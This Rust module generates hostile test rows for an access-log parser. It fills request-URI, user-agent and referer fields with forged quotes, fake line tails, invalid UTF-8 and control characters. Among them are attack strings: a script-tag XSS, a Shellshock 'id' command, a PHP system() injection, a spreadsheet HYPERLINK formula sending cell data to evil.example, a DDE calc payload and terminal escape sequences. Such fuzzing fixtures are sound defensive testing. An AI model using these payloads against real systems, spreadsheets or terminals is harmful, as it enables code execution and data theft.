//! Hostile text in fields that the client controls: quotes, forged field ends, forged tails, control characters. The
//! values are what was sent; the anomalies that a reader must report are recorded with them.

use fastrand::Rng;

use super::random::{build_text, pick, push_host_id, word};
use super::row::{BAD_BYTE, Row, col};

/// Makes a row hostile; returns whether it did. Rows without a quoted request-URI are left unchanged.
pub(crate) fn make_hostile(rng: &mut Rng, row: &mut Row) -> bool {
    if row.bare || row.get(col::URI).is_none() || row.get(col::URI) == Some("-") {
        return false;
    }
    match rng.u8(..100) {
        0..16 => request_uri(rng, row),
        16..46 => agent(rng, row),
        46..60 => forged_tail(rng, row),
        60..74 => referer(rng, row),
        74..82 => {
            let text = control_characters(rng);
            row.set(col::AGENT, text);
        }
        82..88 => invalid(rng, row),
        88..92 if row.fields == col::COUNT => extra(rng, row),
        92..96 => ambiguous(rng, row),
        _ => both(rng, row),
    }
    true
}

/// Puts a quote and more into the request target. No raw space, which would make it an invalid HTTP request.
fn request_uri(rng: &mut Rng, row: &mut Row) {
    const QUERIES: [&str; 6] = [
        "response-content-disposition=attachment;%20filename=\"report.pdf\"",
        "q=\"'><script>alert(1)</script>",
        "x=\"\"",
        "x-note=\"%20200%20-%201%201%201%201%20\"",
        "a=\\\"b\\\"&b=\"",
        "x=\"-\"",
    ];
    let uri = row.get(col::URI).unwrap_or_default();
    let Some(target) = uri.strip_suffix(" HTTP/1.1") else { return };
    let mark = if target.contains('?') { '&' } else { '?' };
    let uri = format!("{target}{mark}{} HTTP/1.1", pick(rng, &QUERIES));
    row.set(col::URI, &uri);
    row.odd.embedded_quote = true;
}

fn agent(rng: &mut Rng, row: &mut Row) {
    const AGENTS: [&str; 10] = [
        "\"Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
        "Mozilla/5.0 AppleWebKit/605.1.15 Mobile/15E148 Safari/604.1\"",
        "my \"own\" client/1.0",
        "\\\"quoted\\\" \\\\ client",
        "a\"\"b",
        "\"",
        "x\" - - -",
        "x\" 200 - 1 1 1 1",
        "() { :; }; echo \"$(id)\"; x",
        "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"open\")",
    ];
    row.set(col::AGENT, word(rng, &AGENTS));
    row.odd.embedded_quote = true;
}

/// A user agent that ends like the end of a line.
fn forged_tail(rng: &mut Rng, row: &mut Row) {
    let host_id = build_text(|out| push_host_id(rng, out));
    let end = *pick(
        rng,
        &[
            "SigV2 DES-CBC3-SHA QueryString evil.example TLSv1 - - us-east-1",
            "SigV4 ECDHE-RSA-AES128-GCM-SHA256 AuthHeader evil.example TLSv1.2 - Yes -",
            "- - - evil.example - - - -",
        ],
    );
    let agent = format!("x\" - {host_id} {end}");
    row.set(col::AGENT, &agent);
    row.odd.embedded_quote = true;
    row.odd.ambiguous_quotes = row.time >= LONG_TAILS;
}

/// 2019-02-01: since then, a line may have more than a version id after the user agent, so that a forged tail may look
/// real.
const LONG_TAILS: i64 = 1_548_979_200;

/// A referer with quotes. One of them looks like the end of a request-URI (except for the HTTP version) with an
/// outcome.
fn referer(rng: &mut Rng, row: &mut Row) {
    const REFERERS: [&str; 6] = [
        "x\" 500 InternalError 1 1 1 1 \"-",
        "https://evil.example/?a=\"b\"",
        "\"https://evil.example/",
        "https://evil.example/\"",
        "<?php system(\"id\"); ?>\\\";$",
        "a\" 404 NoSuchKey 10 - 3 -",
    ];
    let text = word(rng, &REFERERS);
    row.set(col::REFERER, text);
    row.odd.embedded_quote = true;
    row.odd.ambiguous_quotes |= text == REFERERS[0];
}

/// Harmless for a line parser, but not for a terminal.
fn control_characters(rng: &mut Rng) -> &'static str {
    const AGENTS: [&str; 5] = [
        "\u{1b}]0;owned\u{7}\u{1b}[2J\u{1b}[31mred",
        "tab\there",
        "back\u{8}\u{8}\u{8}\u{8}space",
        "right\u{202e}tfel to",
        "=cmd|' /C calc'!A1",
    ];
    word(rng, &AGENTS)
}

fn invalid(rng: &mut Rng, row: &mut Row) {
    let column = *pick(rng, &[col::AGENT, col::REFERER]);
    let text = format!("caf{BAD_BYTE} client{BAD_BYTE}{BAD_BYTE}/1.0 €");
    row.set(column, &text);
    row.odd.invalid_utf8 = true;
}

/// A field that the format does not have yet.
fn extra(rng: &mut Rng, row: &mut Row) {
    row.extra = Some(
        (*pick(rng, &["future-1", "future-1 -", "\"future field\"", "future-1 \"two words\""])).to_owned(),
    );
    row.odd.extra_fields = true;
}

/// Text with several interpretations: the first split into referer and user agent counts, and the request-URI ends at
/// the first outcome.
fn ambiguous(rng: &mut Rng, row: &mut Row) {
    let real = row.get(col::AGENT).unwrap_or("real/1.0").to_owned();
    if rng.bool() {
        // The sent referer was `https://a.example/" "fake-agent`.
        row.set(col::REFERER, "https://a.example/");
        let agent = format!("fake-agent/1.0\" \"{real}");
        row.set(col::AGENT, &agent);
    } else {
        row.set(col::REFERER, "GET /x HTTP/1.1\" 500 InternalError 1 1 1 1 \"-");
    }
    row.odd.embedded_quote = true;
    row.odd.ambiguous_quotes = true;
}

fn both(rng: &mut Rng, row: &mut Row) {
    request_uri(rng, row);
    forged_tail(rng, row);
    if rng.bool() {
        referer(rng, row);
    }
}
